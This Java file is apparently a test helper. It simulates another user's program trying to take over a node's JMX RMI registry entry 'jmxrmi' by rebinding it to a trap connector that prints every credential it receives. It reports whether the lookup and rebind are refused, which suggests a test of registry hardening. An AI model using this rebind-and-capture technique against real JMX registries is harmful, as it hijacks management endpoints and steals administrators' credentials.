package io.spore.jmx;

import javax.management.remote.rmi.RMIConnection;
import javax.management.remote.rmi.RMIServer;
import java.io.IOException;
import java.rmi.Remote;
import java.rmi.registry.LocateRegistry;
import java.rmi.registry.Registry;
import java.rmi.server.UnicastRemoteObject;
import java.util.Arrays;
import java.util.concurrent.Callable;

/**
 * Another user's program, run in its own JVM by {@link RegistryTakeoverTest}: it tries to look up the node's
 * {@code jmxrmi} and to rebind it to a connector of its own, which would print the credentials of every login it
 * receives. It reports each step on standard output, then waits until its standard input closes. It needs nothing
 * but the JDK and its own classes.
 */
public final class RegistryAttacker {
    private RegistryAttacker() {
    }

    /** @param args the registry's host and port */
    public static void main(String[] args) throws Exception {
        Remote trap = UnicastRemoteObject.exportObject(new Trap(), 0);
        Registry registry = LocateRegistry.getRegistry(args[0], Integer.parseInt(args[1]));
        report("lookup", () -> registry.lookup("jmxrmi"));
        report("rebind", () -> {
            registry.rebind("jmxrmi", trap);
            return "jmxrmi is now the trap";
        });
        System.out.println("ready");
        System.out.flush();
        while (System.in.read() >= 0) {
            // Waits for the test to close standard input.
        }
        System.exit(0);
    }

    private static void report(String step, Callable<Object> attempt) {
        try {
            System.out.println(step + " succeeded: " + attempt.call());
        } catch (Exception e) {
            System.out.println(step + " refused: " + e);
        }
        System.out.flush();
    }

    /** The attacker's connector: it keeps whatever credentials a client sends. */
    private static final class Trap implements RMIServer {
        @Override
        public String getVersion() {
            return "1.0 trap";
        }

        @Override
        public RMIConnection newClient(Object credentials) throws IOException {
            System.out.println("stolen: " + (credentials instanceof String[] pair ? Arrays.toString(pair)
                : String.valueOf(credentials)));
            System.out.flush();
            throw new SecurityException("authentication failed");
        }
    }
}
